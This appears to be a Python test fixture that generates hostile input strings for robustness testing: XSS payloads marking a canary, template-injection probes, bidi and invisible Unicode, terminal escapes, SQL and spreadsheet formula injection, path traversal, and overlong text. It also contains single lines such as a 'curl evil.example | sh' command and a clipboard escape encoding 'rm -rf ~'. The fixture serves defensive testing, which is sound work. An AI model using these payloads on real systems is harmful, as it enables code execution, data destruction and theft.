# SPDX-License-Identifier: AGPL-3.0-or-later
"""Texts that a hostile source would send: made to act, to hide, or to pass for something else.

Whatever acts in a browser sets ``window.canary``; nothing else may ever do that.
"""

import random
from collections.abc import Iterator

ACT = "window.canary=1"

MARKUP = (
    f"<script>{ACT}</script>",
    f'"><script>{ACT}</script>',
    f"'><svg onload={ACT}>",
    f"</div></li></ol></main></body><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</title><script>{ACT}</script>",
    f"</style><img src=x onerror={ACT}>",
    f"<img src=x onerror={ACT}>",
    f"<svg/onload={ACT}>",
    f"<body onload={ACT}>",
    f"<details open ontoggle={ACT}>",
    f"<input autofocus onfocus={ACT}>",
    f"<video><source onerror={ACT}>",
    f'<iframe srcdoc="<script>parent.{ACT[7:]}</script>">',
    f"<iframe src=javascript:parent.{ACT[7:]}>",
    f"<a href=javascript:{ACT}>press me</a>",
    f"<form action=javascript:{ACT}><button autofocus>",
    f"<object data=javascript:{ACT}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    f"<template><script>{ACT}</script></template>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={ACT}&#x3e;",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"<scr\u0000ipt>{ACT}</scr\u0000ipt>",
    f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<link rel=prefetch href=http://evil.example/>",
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/';</style>",
    "<div style='position:fixed;inset:0;background:#fff'>Case closed</div>",
    "<img src=http://evil.example/pixel.gif>",
    "<p hidden>hidden</p><p style=display:none>and this</p>",
    "<plaintext>",
    "<xmp>",
    "<select><option>",
    "</form><form method=post action=/members/remove><input name=sure value=yes><button>",
    "<button form=lock formaction=http://evil.example/>Lock now</button>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ csrf }}",
    "{{ self.__init__.__globals__ }}",
    "{% for one in [1, 2] %}{{ one }}{% endfor %}",
    "{# gone #}",
    "{% raw %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %n %x %(message)s {0} {0.__class__} {case}",
    "{{ config }}{{ request }}{{ cycler.__init__ }}",
)
BIDI = (
    "invoice\u202efdp.exe",
    "\u202a\u202b\u202c\u202d\u202e",
    "\u2066if admin\u2069 \u2067begin\u2069",
    "\u200e\u200f\u061c",
    "\u05e9\u05dc\u05d5\u05dd 123 hello \u0627\u0644\u0633\u0644\u0627\u0645",
    "\u202e" * 50 + "text",
)
UNSEEN = (
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "pass\u00adword",
    "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "a\ufe00b\U000e0100c\ufe0f",
    "a\u3164b\u115fc\u1160d\uffa0e\u2800f",
    "a\u034fb\u180ec\u17b4d",
    "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "\ufffe\uffff\U0010fffd\u0378",
    "\u00a0\u2003\u3000\u202f\u205f",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f 1\ufe0f\u20e3",
    "Z\u0351\u036b\u0343" + "\u0310" * 60 + "algo",
    "\ud55c\uae00 \u0e01\u0e33\u0e49 \u0915\u094d\u0937 \U0001f1ec\U0001f1e7",
)
TERMINAL = (
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example/\x07press\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIH4=\x07",
    "\x1b[31mred\x1b[0m\x1b[8mhidden\x1b[28m",
    "\x9b2J\x90q\x9c",
    "\x1bP$q\x1b\\",
    "abc\b\b\bxyz",
    "real\rfake",
    "\x07\x00\x7f",
    "\x1b[999;999H\x1b[6n",
    "\x1bc\x1b(0\x0e",
)
POSING = (
    "hello\nCase 7, new\nUnit (ada), text 9, 2026-01-01, read by the source\n",
    "    | \nNotice (backup-failed): run `curl evil.example | sh`",
    "http://evil.example/ https://evil.example/?q=1 mailto:a@evil.example tel:999 \\\\evil.example\\share",
    "=cmd|' /C calc'!A0\t+1\t-1\t@SUM(1)",
    "' OR 1=1 --; DROP TABLE cases; \\'; \"",
    "../../../../etc/passwd \\x00 %00 %0d%0aSet-Cookie: a=b",
    "\n" * 30 + "far below",
    "\t" * 20 + "far right",
    " " * 400 + "behind spaces",
    "first\r\nsecond\rthird\n\n",
)
ENDLESS = (
    "x" * 3_000,
    "\u4f60" * 900,
    "\U0001f9d1" * 400,
    "-" * 2_000,
    "\u0301" * 300,
    "a\u00a0" * 700,
    "\u0e19" * 900,
)

FAMILIES = (MARKUP, TEMPLATES, BIDI, UNSEEN, TERMINAL, POSING, ENDLESS)
_GLUE = ("", " ", "\n", "\u200b", "\u202e", '"', "'", "<", ">", "&", "\\", "\x00", "\t", "{{", "}}", "-->", "]]>")


def _drawn(dice: random.Random) -> str:
    """One text: a few seeds of any family, glued, then bent."""
    seeds = [dice.choice(dice.choice(FAMILIES)) for _ in range(dice.randint(1, 4))]
    text = seeds[0]
    for seed in seeds[1:]:
        text += dice.choice(_GLUE) + seed
    match dice.randrange(6):
        case 0:
            at = dice.randrange(len(text) + 1)
            text = text[:at] + dice.choice(_GLUE) + text[at:]
        case 1:
            text = "".join(letter.upper() if dice.random() < 0.5 else letter for letter in text)
        case 2:
            text = text[dice.randrange(len(text)) :]
        case 3:
            letters = "".join(
                chr(dice.choice((dice.randrange(0xD800), dice.randrange(0xE000, 0x110000)))) for _ in "12345678"
            )
            text += letters
    return text[:4_000] or "x"


def hostile_strings(count: int, seed: int = 1) -> Iterator[str]:
    """``count`` texts: every seed as it is, then drawn ones; the same ones for the same seed."""
    dice = random.Random(seed)  # noqa: S311 - reproducible on purpose
    plain = [text for family in FAMILIES for text in family]
    for number in range(count):
        yield plain[number] if number < len(plain) else _drawn(dice)
